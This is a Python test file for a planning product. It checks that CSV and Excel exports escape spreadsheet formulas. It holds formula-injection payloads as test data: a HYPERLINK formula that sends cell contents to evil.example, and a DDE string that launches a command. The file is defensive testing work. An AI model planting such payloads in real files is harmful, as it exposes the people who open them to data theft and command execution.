"""Every file the product writes escapes what a spreadsheet would run as a formula.

A SKU code like ``=HYPERLINK("http://evil.example/?"&A1,"click")`` can be imported (an
unknown SKU is created with a warning); each writer must give it a leading apostrophe, so
opening the file in a spreadsheet shows the text instead of running it. The files are read
back as a spreadsheet would: CSV with the csv module, workbooks with openpyxl.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sop_core.cli import main
from sop_core.data import db
from sop_core.data.export import export_bytes
from sop_core.data.importer import import_file

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPED = "'" + HOSTILE


def _import_hostile_sku(path: Path, folder: Path) -> None:
    """Copy one SKU's sales history under the hostile code and import it."""
    with db.connect(path) as con:
        rows = con.execute(
            "SELECT * FROM sales_history WHERE sku = (SELECT min(sku) FROM products)"
        ).df()
    source = folder / "hostile_sales.csv"
    rows.assign(sku=HOSTILE).to_csv(source, index=False)
    report = import_file(path, "sales_history", source)
    assert report.ok and report.products_created == 1, report.summary()


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=1):
            for cell in row:
                # A formula comes back with data_type "f": a spreadsheet would run it.
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                cells.append(cell.value)
    return cells


def _assert_escaped(cells: list) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    assert ESCAPED in texts, "the hostile SKU is not in the file"
    assert HOSTILE not in texts
    assert not any(c.startswith(("=", "+", "@")) for c in texts), [
        c for c in texts if c.startswith(("=", "+", "@"))
    ]


@pytest.fixture()
def hostile_db(sample_db: Path, tmp_path: Path) -> Path:
    """The sample company with a hostile SKU code in its products and sales history."""
    _import_hostile_sku(sample_db, tmp_path)
    return sample_db


@pytest.fixture(scope="module")
def hostile_forecast_master(sample_db_master: Path, tmp_path_factory) -> Path:
    """The sample with the hostile SKU and a forecast run that includes it (built once)."""
    from sop_core.forecast.runs import refresh_forecast

    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "hostile.duckdb"
    shutil.copy(sample_db_master, path)
    _import_hostile_sku(path, folder)
    refresh_forecast(path, jobs=2)
    return path


@pytest.fixture()
def hostile_forecast_db(hostile_forecast_master: Path, tmp_path: Path) -> Path:
    path = tmp_path / "hostile.duckdb"
    shutil.copy(hostile_forecast_master, path)
    return path


# ---- export (CLI) and the Data page's downloads --------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_export_escapes_the_hostile_sku(hostile_db: Path, tmp_path: Path, kind: str):
    out = tmp_path / f"products.{kind}"
    assert main(["export", "--db", str(hostile_db), "--table", "products", "--out", str(out)]) == 0
    cells = _csv_cells(out.read_bytes()) if kind == "csv" else _xlsx_cells(out.read_bytes())
    _assert_escaped(cells)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_data_page_download_escapes_the_hostile_sku(hostile_db: Path, kind: str):
    # pages/data.py hands st.download_button export_bytes(path, table, fmt).
    data = export_bytes(hostile_db, "sales_history", kind)
    _assert_escaped(_csv_cells(data) if kind == "csv" else _xlsx_cells(data))


# ---- files made from a forecast ----------------------------------------------------------------


@pytest.mark.slow
def test_forecast_out_escapes_the_hostile_sku(hostile_forecast_db: Path, tmp_path: Path):
    out = tmp_path / "forecast.csv"
    code = main(["forecast", "--db", str(hostile_forecast_db), "--out", str(out), "--quiet"])
    assert code == 0
    _assert_escaped(_csv_cells(out.read_bytes()))
    # The numbers stay numbers: the file is still a forecast a program can read.
    back = pd.read_csv(out)
    assert back["forecast"].dtype.kind == "f" and len(back) > 0


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_targets_escape_the_hostile_sku(hostile_forecast_db: Path, tmp_path: Path, kind: str):
    out = tmp_path / f"targets.{kind}"
    assert main(["targets", "--db", str(hostile_forecast_db), "--out", str(out)]) == 0
    _assert_escaped(
        _csv_cells(out.read_bytes()) if kind == "csv" else _xlsx_cells(out.read_bytes())
    )


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_promotions_page_download_escapes_the_hostile_sku(hostile_forecast_db: Path, kind):
    # pages/promotions.py hands st.download_button targets_bytes(result_targets(result), kind).
    from sop_core.demand.plan_base import load_plan_base
    from sop_core.forecast.runs import latest_run
    from sop_core.scenario.levers import apply_scenario
    from sop_core.scenario.model import Scenario
    from sop_core.scenario.targets import result_targets, targets_bytes

    with db.connect(hostile_forecast_db) as con:
        base = load_plan_base(con, latest_run(con), 26)
    data = targets_bytes(result_targets(apply_scenario(base, Scenario("Baseline"))), kind)
    _assert_escaped(_csv_cells(data) if kind == "csv" else _xlsx_cells(data))


def test_the_duckdb_written_targets_csv_escapes_on_its_own():
    # export.targets_csv writes with DuckDB's COPY: it escapes whatever frame it is given.
    from sop_core.data.export import targets_csv

    rows = pd.DataFrame(
        {
            "sku": [HOSTILE, "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "plain"],
            "week": pd.to_datetime(["2026-01-05"] * 5),
            "baseline": 1.0,
            "revised": 2.0,
            "lower_80": 0.5,
            "upper_80": 3.0,
        }
    )
    cells = _csv_cells(targets_csv(rows))
    _assert_escaped(cells)
    assert {"'+cmd|' /C calc'!A0", "'@SUM(A1)", "'-2+3", "plain"} <= set(cells)


@pytest.mark.slow
def test_plan_of_record_targets_and_the_pack_escape_the_hostile_sku(
    hostile_forecast_db: Path, tmp_path: Path
):
    from sop_core.meeting.pack import build_pack
    from sop_core.meeting.plan_of_record import approve
    from sop_core.scenario.targets import compute_targets, targets_bytes

    approve(hostile_forecast_db, None, "Ana", weeks=13)
    # The Plan page's download: the frozen targets as CSV.
    frozen = compute_targets(hostile_forecast_db, plan_of_record=0)
    _assert_escaped(_csv_cells(targets_bytes(frozen.frame, "csv")))
    # The same through the CLI.
    out = tmp_path / "por.csv"
    assert (
        main(["targets", "--db", str(hostile_forecast_db), "--plan-of-record", "--out", str(out)])
        == 0
    )
    _assert_escaped(_csv_cells(out.read_bytes()))
    # The meeting pack's workbook (every sheet).
    folder = tmp_path / "pack"
    folder.mkdir()
    files = build_pack(hostile_forecast_db, folder, pdf=False)
    _assert_escaped(_xlsx_cells(files["xlsx"].read_bytes()))
